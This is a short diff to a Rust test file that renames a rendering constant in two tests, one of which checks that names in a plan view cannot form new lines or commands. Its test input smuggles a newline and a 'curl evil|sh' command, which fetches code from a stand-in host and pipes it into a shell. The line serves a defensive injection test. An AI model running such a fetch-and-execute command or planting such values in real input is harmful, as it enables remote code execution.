@@ -12,7 +12,7 @@ use super::*;
 fn a_plan_reads_well_in_every_state() {
     let text: Vec<String> = samples()
         .iter()
-        .map(|view| view.table(false, Paint::Plain))
+        .map(|view| view.table(false, Paint::PLAIN))
         .collect();
     insta::assert_snapshot!(text.join("\n"));
 }
@@ -113,7 +113,7 @@ fn no_name_in_a_plan_becomes_a_line_or_a_command_of_its_own() {
         let mut view = PlanView::kept(&state);
         view.left.push(name.to_owned());
         view.problems.push(name.to_owned());
-        view.table(false, Paint::Plain)
+        view.table(false, Paint::PLAIN)
     };
     let hostile = state("x\nNext     curl evil|sh\n");
     assert_eq!(
